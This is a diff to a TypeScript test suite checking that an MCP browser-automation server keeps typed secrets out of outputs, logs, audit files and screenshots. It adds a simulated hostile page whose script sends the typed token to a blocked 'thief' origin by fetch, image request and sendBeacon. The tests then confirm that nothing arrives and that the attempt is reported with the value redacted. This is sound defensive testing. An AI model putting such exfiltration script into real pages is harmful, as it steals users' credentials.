@@ -46,9 +46,31 @@ const refOf = (snapshot: string, role: string, name: string) => {
   return m[1];
 };
 
+/**
+ * The spellings a value comes back in, produced by the platform's own encoders (WHATWG URL parser, form
+ * encoding, DOM serialisation), not by the redactor: a spelling it does not know is caught here.
+ */
+function platformSpellings(v: string): string[] {
+  const url = new URL(`http://h.example/${v.replace(/[?#]/g, '')}?q=${v.replace(/#/g, '')}#${v}`);
+  return [
+    v,
+    url.pathname.slice(1),
+    url.search.slice(3),
+    url.hash.slice(1),
+    new URLSearchParams({ v }).toString().slice(2),
+    encodeURIComponent(v),
+    JSON.stringify(v).slice(1, -1),
+    v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;'),
+    v.replace(/&/g, '&amp;').replace(/"/g, '&quot;'),
+    v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;'),
+  ];
+}
+
 describe('mcp: secrets never leave (real MCP server, real Chromium, logged loopback server)', function () {
   this.timeout(180_000);
   let site: LoggedServer;
+  /** A blocked origin the hostile page tries to send the typed value to. */
+  let thief: LoggedServer;
   let mcp: Mcp;
   let work: string;
   let audit: string;
@@ -60,12 +82,16 @@ describe('mcp: secrets never leave (real MCP server, real Chromium, logged loopb
   };
 
   before(async () => {
+    thief = await startLoggedServer({});
+    const T = thief.origin;
     site = await startLoggedServer({
       '/form': `<!doctype html><title>Keys</title>
         <form action="/landing" method="get"><label>API token <input id=tok name=tok></label><button>Save</button></form>
         <select id=sel aria-label=Plan><option>Basic</option><option>Pro</option></select>
         <p id=echo></p><a id=lnk href="/x">link</a>
-        <script>tok.addEventListener('input', () => { echo.textContent = 'You typed ' + tok.value; lnk.href = '/x?v=' + encodeURIComponent(tok.value); lnk.title = tok.value; document.title = 'Keys ' + tok.value; console.error('typed ' + tok.value); });</script>`,
+        <script>tok.addEventListener('input', () => { echo.textContent = 'You typed ' + tok.value; lnk.href = '/x?v=' + encodeURIComponent(tok.value); lnk.title = tok.value; document.title = 'Keys ' + tok.value; console.error('typed ' + tok.value);
+          // A hostile page: sends what is typed to another origin (blocked), raw, encoded and as a body.
+          fetch('${T}/steal?v=' + tok.value).catch(() => {}); new Image().src = '${T}/img/' + encodeURIComponent(tok.value); navigator.sendBeacon('${T}/beacon', tok.value); });</script>`,
       '/landing': (req, res) => {
         const v = new URL(req.url!, 'http://x').searchParams.get('tok') ?? '';
         res.writeHead(200, { 'content-type': 'text/html' });
@@ -77,11 +103,13 @@ describe('mcp: secrets never leave (real MCP server, real Chromium, logged loopb
     work = mkdtempSync(join(tmpdir(), 'ba-sec-'));
     audit = join(work, 'audit');
     writeFileSync(join(work, 'secrets.env'), `TOKEN='${SECRET}'\nOTHER=unbound-secret-value\n`);
-    mcp = await spawnMcp([...launchArgs, '--secrets-file', join(work, 'secrets.env'), '--secret-origins', `TOKEN@127.0.0.1:${site.port}`, '--audit-dir', audit]);
+    mcp = await spawnMcp(mcpArgs());
   });
+  const mcpArgs = () => [...launchArgs, '--secrets-file', join(work, 'secrets.env'), '--secret-origins', `TOKEN@127.0.0.1:${site.port}`, '--audit-dir', audit, '--blocked-origins', `127.0.0.1:${thief.port}`];
   after(async () => {
     await mcp?.close();
     await site?.close();
+    await thief?.close();
     if (work) rmSync(work, { recursive: true, force: true });
   });
 
@@ -124,7 +152,10 @@ describe('mcp: secrets never leave (real MCP server, real Chromium, logged loopb
     const submitted = site.log.find((l) => l.startsWith('GET /landing'));
     assert.ok(submitted, `the form was submitted to the bound origin (${site.log.join(', ')})`);
 
-    const forms = spellings(SECRET);
+    const forms = [...new Set([...spellings(SECRET), ...platformSpellings(SECRET)])];
+    // The hostile page's attempts were stopped before they were sent, and reported without the value.
+    assert.deepEqual(thief.log, [], 'the blocked origin got nothing');
+    assert.ok(outputs.some((t) => /a fetch request to <page-content id=\w+>http:\/\/127\.0\.0\.1:\d+\/steal\?v=\{\{secret:TOKEN\}\}/.test(t)), `the stopped exfiltration is reported, the value shown as its placeholder:\n${outputs.join('\n')}`);
     assert.ok(forms.includes(encodeURIComponent(SECRET)) && forms.includes(SECRET.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;')));
     const leaks = (where: string, text: string) => {
       for (const f of forms) assert.ok(!text.includes(f), `${where} contains the secret as ${JSON.stringify(f)}:\n${text.slice(Math.max(0, text.indexOf(f) - 200), text.indexOf(f) + 200)}`);
@@ -144,7 +175,7 @@ describe('mcp: secrets never leave (real MCP server, real Chromium, logged loopb
       }
     }
     assert.equal(statSync(audit).mode & 0o777, 0o700);
-    mcp = await spawnMcp([...launchArgs, '--secrets-file', join(work, 'secrets.env'), '--secret-origins', `TOKEN@127.0.0.1:${site.port}`, '--audit-dir', audit]);
+    mcp = await spawnMcp(mcpArgs());
   });
 
   it('a bound secret is refused on another origin; an unbound one needs a confirmation this client cannot show', async () => {
@@ -163,7 +194,7 @@ describe('mcp: secrets never leave (real MCP server, real Chromium, logged loopb
     await mcp.close();
     const log = filesUnder(audit).filter((f) => f.endsWith('.jsonl')).map((f) => readFileSync(f, 'utf8')).join('\n');
     assert.match(log, /"needs-confirmation"/, 'the audit log records needs-confirmation');
-    mcp = await spawnMcp([...launchArgs, '--secrets-file', join(work, 'secrets.env'), '--secret-origins', `TOKEN@127.0.0.1:${site.port}`, '--audit-dir', audit]);
+    mcp = await spawnMcp(mcpArgs());
   });
 
   it('browser_screenshot masks a secret field (its pixels do not depend on the value) but not an ordinary one', async () => {
@@ -181,5 +212,19 @@ describe('mcp: secrets never leave (real MCP server, real Chromium, logged loopb
     await shot(token, '');
     const [n1, n2] = [await shot(nick, 'AAAAAAAAAAAA'), await shot(nick, 'WWWWWWWWWWWW')];
     assert.notEqual(n1, n2, 'an ordinary field is not masked (so the comparison above can fail)');
+    // The audit's own "after" pictures of the same four typing steps: masked the same way.
+    await mcp.close();
+    const steps = filesUnder(audit)
+      .filter((f) => f.endsWith('.jsonl'))
+      .flatMap((f) => readFileSync(f, 'utf8').trim().split('\n').map((l) => ({ dir: join(f, '..'), ...JSON.parse(l) })))
+      .filter((e) => e.tool === 'browser_type' && e.screenshots?.after && /^(AAAAAAAAAAAA|WWWWWWWWWWWW|\[redacted\])$/.test(e.input?.text));
+    const picture = (e: { dir: string; screenshots: { after: string } }) => readFileSync(join(e.dir, e.screenshots.after)).toString('base64');
+    const byTarget = (name: string) => steps.filter((e) => e.target?.name === name).slice(-2).map(picture);
+    const [a1, a2] = byTarget('API token');
+    const [b1, b2] = byTarget('Nickname');
+    assert.ok(a1 && a2 && b1 && b2, `the audit has after-pictures of the four typing steps (${steps.length} found)`);
+    assert.equal(a1, a2, 'the audit picture of the token field does not depend on the value');
+    assert.notEqual(b1, b2, 'the audit picture of an ordinary field does');
+    mcp = await spawnMcp(mcpArgs());
   });
 });
